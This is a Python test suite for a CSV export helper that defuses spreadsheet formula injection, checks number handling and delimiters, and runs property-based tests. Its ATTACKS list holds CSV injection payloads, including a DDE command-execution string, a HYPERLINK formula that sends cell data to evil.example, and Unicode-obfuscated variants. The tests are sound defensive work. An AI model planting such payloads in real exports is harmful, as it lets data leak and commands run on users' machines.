"""CSV for spreadsheets: nothing computes, numbers stay numbers, and what was written is read back."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hub.http.spreadsheets import csv_rows, safe_cell

ATTACKS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '"=1+1',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "−1+1",
    "＠SUM(A1)",
    "﹦1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\u00a0=1+1",
    "\x00=1+1",
    "\x1b=1+1",
]


def read(data: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_spreadsheet_would_compute_becomes_text(attack):
    assert safe_cell(attack).startswith("'")


@pytest.mark.parametrize("text", ["Acme GmbH", "O'Neil & Sons", "a=b", "12-34", "me@acme.example", "", "'=1", "5 - 3"])
def test_other_text_stays_as_it_is(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("number", ["-12.50", "+5", "0", "-0.0001", "1e5", "-.5"])
def test_a_number_stays_a_number_though_it_starts_with_a_sign(number):
    assert safe_cell(number) == number


@pytest.mark.parametrize("separator", ";\t|\n\r")
def test_a_formula_does_not_start_a_cell_for_a_reader_with_another_separator(separator):
    attack = f"Acme{separator} =1+1"
    [line] = csv_rows(["amount", "name"], [[Decimal("1"), attack]])
    splits = separator if separator in ";\t|" else ";"
    assert not [cell for row in read(line, splits) for cell in row if cell.strip(' "').startswith("=")]


def test_making_text_safe_twice_changes_nothing_more():
    for attack in ATTACKS:
        assert safe_cell(safe_cell(attack)) == safe_cell(attack)


def test_kinds_of_values():
    row = [
        Decimal("-1250.5000"),
        -3,
        date(2026, 3, 31),
        datetime(2026, 3, 31, 9, tzinfo=UTC),
        UUID(int=1),
        True,
        None,
        {"name": "=1"},
        'say "hi", twice',
    ]
    [data] = csv_rows([f"c{place}" for place in range(len(row))], [row])
    assert read(data)[1] == [
        "-1250.5000",
        "-3",
        "2026-03-31",
        "2026-03-31T09:00:00+00:00",
        "00000000-0000-0000-0000-000000000001",
        "true",
        "",
        '{"name":"=1"}',
        'say "hi", twice',
    ]


def test_lines_end_as_rfc_4180_has_it_and_a_byte_order_mark_comes_first_if_asked_for():
    assert b"".join(csv_rows(["ä"], [["ö"]])) == "ä\r\nö\r\n".encode()
    assert b"".join(csv_rows(["a"], [["b"]], bom=True)) == b"\xef\xbb\xbfa\r\nb\r\n"


def test_rows_are_written_as_they_come():
    endless = iter(int, 1)
    pieces = csv_rows(["n"], ([value] for value in endless))
    assert next(pieces).startswith(b"n\r\n0\r\n")


def test_half_a_surrogate_pair_does_not_break_the_file():
    assert read(b"".join(csv_rows(["a"], [["x\ud800y"], ["z"]]))) == [["a"], ["x?y"], ["z"]]


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=5))
def test_any_text_comes_back_in_its_own_cell_and_computes_nothing(rows):
    data = b"".join(csv_rows(["a", "b"], rows))
    found = read(data)[1:]
    expected = [[safe_cell(value).encode("utf-8", "replace").decode() for value in row] for row in rows]
    assert found == expected
    for row in found:
        for cell in row:
            assert cell.lstrip()[:1] not in set("=@") and (cell[:1] not in set("+-\t\r\n") or float(cell) is not None)
